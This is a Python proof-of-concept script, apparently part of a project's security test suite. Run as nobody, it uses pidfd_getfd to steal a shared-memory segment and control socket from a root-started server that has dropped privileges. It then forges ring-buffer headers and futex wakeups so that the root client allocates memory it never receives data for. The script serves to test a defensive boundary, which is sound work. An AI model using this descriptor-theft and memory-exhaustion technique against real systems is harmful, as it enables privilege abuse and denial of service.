"""Run as nobody by pending/t_rt_dropped_server.sh: takes the descriptors of root's server that
dropped to nobody (py/dropped_server.py, process PID; pidfd_getfd, which the kernel allows the
process's own user once it is dumpable), its connection's segment memfd and control socket
(the connected SEQPACKET socket whose peer is another process), claims a whole ring of bytes
toward root's client it never writes (holes) and FIN, rings the client, and prints
"READ <n> of <capacity>" and "ALLOCATED <MiB>": what the client's reads allocated of its
memfd, charged to root's client, while it holds the connection.
Usage: dropped_thief.py PID"""
import ctypes
import mmap
import os
import socket
import struct
import sys
import time

HEADER = 1024
pid = int(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
pidfd = os.pidfd_open(pid)


def getfd(n):
    fd = libc.syscall(438, pidfd, n, 0)  # pidfd_getfd
    if fd < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd %d" % n)
    return fd


seg = ctl = None
for name in os.listdir("/proc/%d/fd" % pid):
    try:
        link = os.readlink("/proc/%d/fd/%s" % (pid, name))
    except OSError:
        continue
    if link.startswith("/memfd:colo-seg"):
        seg = getfd(int(name))
    elif link.startswith("socket:"):
        fd = getfd(int(name))
        t = socket.socket(fileno=fd)
        try:
            peer_pid = struct.unpack("3i", t.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0]
            kind = t.getsockopt(socket.SOL_SOCKET, socket.SO_TYPE)
            if kind == socket.SOCK_SEQPACKET and peer_pid not in (0, pid):
                ctl = t.detach()
        except OSError:
            pass
print("TOOK segment=%s control=%s" % (seg, ctl), flush=True)
if seg is None:
    sys.exit(0)
size = os.fstat(seg).st_size
m = mmap.mmap(seg, size)
capacity, slot_size, slots = struct.unpack_from("<III", m, 24)
S2C = HEADER + (size - HEADER) // 2
DATA = (768 + 12 * slots + 1023) // 1024 * 1024


def mib():
    at, total = S2C + DATA, 0
    while at < size:
        try:
            data = os.lseek(seg, at, os.SEEK_DATA)
        except OSError:
            break
        hole = os.lseek(seg, data, os.SEEK_HOLE)
        total += hole - data
        at = hole
    return total >> 20


head = struct.unpack_from("<Q", m, S2C)[0]
struct.pack_into("<I", m, S2C + 12, capacity)
struct.pack_into("<Q", m, S2C, head + capacity)
struct.pack_into("<I", m, S2C + 8, 1)  # FIN
if ctl is not None:
    try:
        os.write(ctl, b"r")
    except OSError:
        pass
addr = ctypes.addressof(ctypes.c_char.from_buffer(m, 128))  # client_waiting
libc.syscall(202, ctypes.c_void_p(addr), 1, 0x7FFFFFFF, None, None, 0)  # FUTEX_WAKE
end = time.time() + 20
while time.time() < end and struct.unpack_from("<Q", m, S2C + 128)[0] < head + capacity:
    time.sleep(0.05)
time.sleep(0.5)
print("READ %d of %d" % (struct.unpack_from("<Q", m, S2C + 128)[0] - head, capacity), flush=True)
print("ALLOCATED %d" % mib(), flush=True)
